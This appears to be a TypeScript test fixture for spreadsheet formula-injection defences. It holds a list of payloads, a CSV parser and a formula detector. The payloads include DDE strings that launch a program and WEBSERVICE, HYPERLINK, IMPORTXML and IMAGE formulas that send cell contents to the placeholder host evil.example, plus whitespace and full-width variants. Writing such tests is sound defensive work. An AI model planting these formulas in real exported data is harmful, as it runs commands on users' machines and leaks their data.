/**
 * What a spreadsheet would run if it stood at the beginning of a cell: plain, behind spaces, in full width, and behind
 * what could end a cell before it. At most 60 characters each.
 */
export const formulas: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '=A1',
  '-A1',
  '=',
  '+',
  '-',
  '@',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")',
  '=HYPERLINK("https://evil.example/?x="&A1,"Open me")',
  '=WEBSERVICE("https://evil.example/"&A1)',
  '=IMPORTXML("https://evil.example/","//a")',
  '=IMAGE("https://evil.example/"&B2)',
  '\t=1+1',
  '   =1+1',
  '\u00a0=1+1',
  '\u3000+1',
  '\ufeff@A1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1,1)',
  '=1+1","=2+2',
  '="a"\'=1',
];

/** The cells of a file of comma-separated values, as RFC 4180 has them; throws where the file is none. */
export function parseCells(file: string): string[][] {
  const rows: string[][] = [];
  const row: string[] = [];
  let remaining = file.replace(/^\uFEFF/, '');
  while (remaining !== '') {
    const match = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/.exec(remaining);
    if (!match) throw new Error(`no cell begins here: ${remaining.slice(0, 60)}`);
    const [whole, quoted, plain = '', end] = match;
    row.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end === '\r\n') rows.push(row.splice(0));
    remaining = remaining.slice(whole.length);
  }
  return rows;
}

/** Whether a spreadsheet would take the cell for a formula. A number is none, whatever its sign. */
export const isFormula = (cell: string) => /^[\s\0]*[=+\-@＝＋－＠]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);
